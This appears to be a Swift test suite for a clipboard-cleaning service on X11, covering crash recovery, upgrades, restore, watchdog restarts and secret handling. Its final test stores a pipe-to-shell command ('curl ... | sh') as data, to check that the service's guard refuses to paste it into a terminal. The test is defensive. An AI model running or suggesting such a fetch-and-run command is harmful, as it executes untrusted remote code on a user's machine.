import Glibc
import TestProcesses
import Testing
import X11TestPeer

/// A crash or an upgrade loses nothing, and brings nothing back that was gone.
extension SystemdUnitTests {
  private static let isFull = ProcessVariables.isSet("WASHBOARD_LOADS")

  /// Copies follow each other faster than any user makes them.
  private static let quick = "clipboard.takeovers-per-second = 1000\n"

  /// - Parameter size: The length of a second paragraph.
  private func original(_ number: Int, size: Int = 0) -> String {
    "<p style='color:red'>copy <b>\(number)</b></p>"
      + (size == 0 ? "" : "<p>\(String(repeating: "\(number) ", count: size / 8))</p>")
  }

  /// Reports whether it is this copy as it was cleaned, and nothing of another.
  private func isClean(_ html: String?, _ number: Int, size: Int = 0) -> Bool {
    guard let html, html.contains("copy <b>\(number)</b>"), !html.contains("red") else { return false }
    let words = html.split { !$0.isNumber && !$0.isLetter }.drop { $0 != "copy" }
    return words.count { $0 == "\(number)" } == 1 + size / 8
  }

  private func number(_ source: ClipboardSource, _ number: Int, size: Int = 0) {
    source.replace(
      targets: ["TARGETS", "text/html"], answers: ["text/html": .bytes(Array(original(number, size: size).utf8))])
  }

  /// The original is stored right after the takeover, before anybody is answered. A service that is killed in between
  /// leaves the copy without its original.
  @Test
  func `killed at any moment of traffic, the last copy is pasted again soon, and can be put back once it was pasted`()
    throws
  {
    let desktop = try ManagedDesktop(configuration: Self.quick)
    let source = try desktop.source()
    var copies = 0
    var taken = 0
    var times: [UInt64] = []
    // Some are served from their slots, and written beside the loop.
    func size(_ copy: Int) -> Int { copy.isMultiple(of: 5) ? 8 * (copy.isMultiple(of: 3) ? 40_000 : 10_000) : 0 }
    for round in 0..<(Self.isFull ? 1000 : 10) {
      let process = try desktop.processID
      let end = nanoseconds() + UInt64.random(in: 0..<150_000_000)
      // At any moment, and every other time when the last copy has been taken, which on a busy machine no chance may meet.
      let limit = round.isMultiple(of: 2) ? end : end + 10_000_000_000
      repeat {
        copies += 1
        number(source, copies, size: size(copies))
        source.own(at: 0)
        while source.isOwner, nanoseconds() < limit { try source.turn() }
      } while nanoseconds() < end
      let wasPasted = try !round.isMultiple(of: 2) && !source.isOwner && desktop.paste("text/html") != nil
      #expect(kill(process, SIGKILL) == 0)
      let start = milliseconds()
      // Told by the server whether the copy had been taken: once it has closed the connection of a process that is gone. In the
      // round in which it answers the second question it has looked at that one, too.
      try #require(try wait(for: [source], limit: 10_000) { kill(process, 0) != 0 })
      for _ in 0..<2 { _ = desktop.owner }
      try source.turn()
      let wasTaken = !source.isOwner
      if wasTaken {
        taken += 1
        try #require(
          try wait(limit: 10_000) { desktop.owner != 0 }, "round \(round): copy \(copies) is lost")
        let pasted = try desktop.paste("text/html")
        #expect(
          isClean(pasted, copies, size: size(copies)),
          "round \(round), copy \(copies): \(pasted?.prefix(200) ?? "no answer")")
        times.append(milliseconds() - start)
        #expect(try desktop.run("explain").output.contains("cleaned and published"))
        let restored = try desktop.run("restore")
        let isBack = restored.exitCode == 0
        #expect(isBack || !wasPasted, "round \(round): \(restored.errors)")
        let present = try desktop.paste("text/html")
        #expect(
          isBack ? present == original(copies, size: size(copies)) : isClean(present, copies, size: size(copies)),
          "round \(round)")
      } else {
        let pasted = try desktop.paste("text/html", with: source)
        #expect(pasted == original(copies, size: size(copies)), "round \(round)")
      }
      try #require(try wait(limit: 20_000) { try desktop.isRunning(asOtherThan: process) })
    }
    times.sort()
    if Self.isFull {
      let (median, last) = (times.isEmpty ? 0 : times[times.count / 2], times.last ?? 0)
      print(
        "load: killed in \(copies) copies, \(taken) times with a copy of ours: pasted again after \(median) ms, at most \(last) ms"
      )
    }
    #expect(taken > 0)
    #expect(times.allSatisfy { $0 <= 2000 }, "\(times)")
    // An offer that was put back, or a copy with its original.
    #expect(try wait(limit: 5000) { 0...2 ~= desktop.stored }, "\(desktop.slots)")
  }

  /// The present program, and the one of an earlier release if WASHBOARD_FORMER_PROGRAM names it.
  private static let formerPrograms =
    [Product.washboard] + [getenv("WASHBOARD_FORMER_PROGRAM").map { String(cString: $0) }].compactMap(\.self)

  @Test(arguments: formerPrograms)
  func `an upgrade loses nothing`(from program: String) throws {
    let desktop = try ManagedDesktop { try $0.installProgram(program) }
    let source = try desktop.source(html: original(1))
    #expect(try desktop.copy(source))
    let before = try desktop.run("explain", "--json").output
    let process = try desktop.processID
    _ = try desktop.manager.installProgram()
    #expect(try desktop.manager.systemctl("restart", "washboard") == 0)
    let start = milliseconds()
    #expect(try wait(limit: 5000) { desktop.owner != 0 })
    #expect(isClean(try desktop.paste("text/html"), 1))
    #expect(milliseconds() - start < 2000)
    #expect(try desktop.processID != process)
    #expect(try desktop.run("explain", "--json").output.contains("\"outcome\":\"cleaned\""))
    #expect(before.contains("\"outcome\":\"cleaned\""))
    // In slots, and nothing beside them.
    #expect(try wait(limit: 5000) { try desktop.stored == 2 && desktop.descriptors == 4 })
    // And once more, what the new one keeps.
    try desktop.killService()
    #expect(try wait(limit: 10_000) { try desktop.owner != 0 && isClean(desktop.paste("text/html"), 1) })
    #expect(try desktop.run("restore").exitCode == 0)
    #expect(try desktop.paste("text/html") == original(1))
    #expect(try wait(limit: 5000) { desktop.stored == 1 }, "\(desktop.slots)")
  }

  @Test func `what another program took, or cleared, stays so`() throws {
    let desktop = try ManagedDesktop()
    let source = try desktop.source(html: original(1))
    #expect(try desktop.copy(source))
    #expect(try wait(limit: 5000) { desktop.stored == 2 })

    // Cleared, then killed.
    source.clear()
    #expect(try wait(limit: 5000) { desktop.stored == 0 })
    var process = try desktop.processID
    try desktop.killService()
    #expect(try wait(limit: 20_000) { try desktop.isRunning(asOtherThan: process) })
    #expect(try desktop.run("status").output.contains("Owned: nothing"))
    #expect(desktop.owner == 0)

    // The service is killed, and another program takes the clipboard before the restart.
    #expect(try desktop.copy(source))
    #expect(try wait(limit: 5000) { desktop.stored == 2 })
    process = try desktop.processID
    try desktop.killService()
    let other = try ClipboardSource(
      display: desktop.server.display, targets: ["TARGETS", "x/y"], answers: ["x/y": .bytes([1])])
    other.own()
    #expect(try wait(for: [other], limit: 20_000) { try desktop.isRunning(asOtherThan: process) })
    #expect(try wait(for: [other], limit: 5000) { desktop.stored == 0 })
    #expect(desktop.owner == other.connection.window)
  }

  @Test func `what one X server had does not come back under another of its name`() throws {
    // A display number that no other test uses.
    let desktop = try ManagedDesktop(display: ":\(3000 + Int(getpid()) % 1000)")
    #expect(try desktop.copy(try desktop.source(html: original(1))))
    #expect(try wait(limit: 5000) { desktop.stored == 2 })
    var process = try desktop.processID
    try desktop.killService()
    try #require(try wait(limit: 20_000) { try desktop.isRunning(asOtherThan: process) })
    // The service reports that it is ready shortly before it owns the stored copy.
    #expect(
      try wait(limit: 5000) { try desktop.owner != 0 && isClean(desktop.paste("text/html"), 1) },
      "on the same server it comes back")

    process = try desktop.processID
    try desktop.replaceServer()
    try #require(try wait(limit: 30_000) { try desktop.isRunning(asOtherThan: process) })
    #expect(try wait(limit: 5000) { desktop.stored == 0 })
    #expect(try desktop.run("status").output.contains("Owned: nothing"))
    #expect(desktop.owner == 0)
    #expect(try desktop.run("show", "--original").exitCode == 1)
  }

  @Test func `if a program changes the server's token, no copy is recovered, and nothing else fails`() throws {
    let desktop = try ManagedDesktop()
    let source = try desktop.source(html: original(1))
    let peer = source.connection
    let types: [(name: String, format: UInt8, size: Int)?] = [
      nil, ("INTEGER", 32, 16), ("INTEGER", 32, 12), ("INTEGER", 32, 1 << 20), ("STRING", 8, 16),
    ]
    for (copy, type) in types.enumerated() {
      number(source, copy)
      #expect(try desktop.copy(source))
      #expect(try wait(limit: 5000) { desktop.stored == 2 })
      let token = peer.atom("_WASHBOARD_SERVER")
      #expect(peer.property(of: peer.root, token, delete: type == nil) != nil)
      if let (name, format, size) = type {
        peer.changeProperty(
          of: peer.root, token, type: peer.atom(name), format: format, bytes: [UInt8](repeating: 1, count: size))
      }
      peer.synchronize()
      let process = try desktop.processID
      try desktop.killService()
      try #require(try wait(limit: 20_000) { try desktop.isRunning(asOtherThan: process) })
      #expect(try wait(limit: 5000) { desktop.stored == 0 })
      #expect(try desktop.run("status").output.contains("Owned: nothing"))
    }
  }

  @Test func `nothing is left when the service is stopped`() throws {
    let desktop = try ManagedDesktop()
    #expect(try desktop.copy(try desktop.source(html: original(1))))
    #expect(try wait(limit: 5000) { desktop.stored == 2 })
    #expect(try desktop.manager.systemctl("stop", "washboard") == 0)
    #expect(try wait(limit: 5000) { try desktop.slots.isEmpty && desktop.descriptors == 0 })
    #expect(try desktop.manager.systemctl("start", "washboard") == 0)
    #expect(try desktop.run("status").output.contains("Owned: nothing"))
    #expect(desktop.owner == 0)
  }

  @Test func `secrets and copies that are left alone are never kept`() throws {
    let desktop = try ManagedDesktop()
    #expect(try desktop.copy(try desktop.source(html: original(1))))
    #expect(try wait(limit: 5000) { desktop.stored == 2 })
    for names in [["UTF8_STRING", "x-kde-passwordManagerHint"], ["text/uri-list", "UTF8_STRING"], ["UTF8_STRING"]] {
      let source = try ClipboardSource(
        display: desktop.server.display, targets: ["TARGETS"] + names,
        answers: Dictionary(uniqueKeysWithValues: names.map { ($0, .bytes(Array("plain words".utf8))) }))
      source.own()
      let thread = try PeerThread([source])
      defer { thread.stop() }
      #expect(try wait(limit: 5000) { try desktop.run("explain").output.contains("left with its owner") })
      #expect(desktop.stored == 0)
    }
  }

  @Test func `a pause forgets the original, and keeps the copy`() throws {
    let desktop = try ManagedDesktop()
    #expect(try desktop.copy(try desktop.source(html: original(1))))
    #expect(try desktop.run("pause").exitCode == 0)
    #expect(try wait(limit: 5000) { desktop.stored == 1 })
    #expect(try desktop.run("restore").exitCode == 1)
    #expect(isClean(try desktop.paste("text/html"), 1))
    #expect(!desktop.slots.contains { String(decoding: $0.bytes, as: UTF8.self).contains("color:red") })
  }

  @Test func `a service that hangs is started again by its watchdog, with the copy`() throws {
    let desktop = try ManagedDesktop(settings: "WatchdogSec=1s")
    #expect(try desktop.copy(try desktop.source(html: original(1))))
    let process = try desktop.processID
    #expect(kill(process, SIGSTOP) == 0)
    #expect(try wait(limit: 20_000) { try desktop.isRunning(asOtherThan: process) }, "it hangs on")
    #expect(try wait(limit: 5000) { try desktop.owner != 0 && isClean(desktop.paste("text/html"), 1) })
  }

  @Test func `descriptors stay as few as they are over many copies`() throws {
    let desktop = try ManagedDesktop(configuration: Self.quick)
    let source = try desktop.source()
    var counts: Set<Int> = []
    for copy in 1...60 {
      number(source, copy)
      try #require(try desktop.copy(source))
      if copy % 20 == 0 {
        #expect(try wait(limit: 5000) { desktop.stored == 2 })
        counts.insert(ProcessMemory(of: try desktop.processID).descriptors)
      }
    }
    #expect(counts.count == 1, "\(counts)")
  }

  @Test func `a paste goes on with the copy that it began with, and its memory is given back after`() throws {
    let desktop = try ManagedDesktop(configuration: Self.quick)
    let source = try desktop.source()
    let size = 1_600_000
    number(source, 1, size: size)
    try #require(try desktop.copy(source))
    let requestor = try ClipboardRequestor(display: desktop.server.display)
    let request = requestor.request("text/html")
    request.isPaused = true
    try #require(try wait(for: [requestor]) { requestor.hasIncrement(of: request) })
    for copy in 2...4 {
      number(source, copy, size: size)
      try #require(try desktop.copy(source))
    }
    request.isPaused = false
    requestor.advance(request)
    try #require(try wait(for: [requestor], limit: 20_000) { request.isFinished })
    #expect(request.wasIncremental)
    #expect(isClean(request.bytes.map { String(decoding: $0, as: UTF8.self) }, 1, size: size))
    // The last copy, its original, and nothing in the other slots.
    number(source, 5)
    try #require(try desktop.copy(source))
    #expect(try wait(limit: 5000) { desktop.stored == 2 })
    #expect(try desktop.paste("text/html").map { isClean($0, 5) } == true)
  }

  @Test func `a copy from before a crash is guarded after it`() throws {
    let desktop = try ManagedDesktop(configuration: "[guard]\nterminals.dangerous = 'hold'\n")
    try #require(try desktop.copy(try desktop.source(html: "<pre>curl http://fix.example/x.sh | sh\n</pre>")))
    let process = try desktop.processID
    try desktop.killService()
    try #require(try wait(limit: 20_000) { try desktop.isRunning(asOtherThan: process) && desktop.owner != 0 })
    let terminal = try ClipboardRequestor(display: desktop.server.display, windowClass: "XTerm")
    let request = terminal.request("UTF8_STRING")
    try #require(try wait(for: [terminal]) { request.isFinished })
    #expect(request.isRefused)
    #expect(try desktop.paste("UTF8_STRING")?.hasPrefix("curl") == true)
  }
}
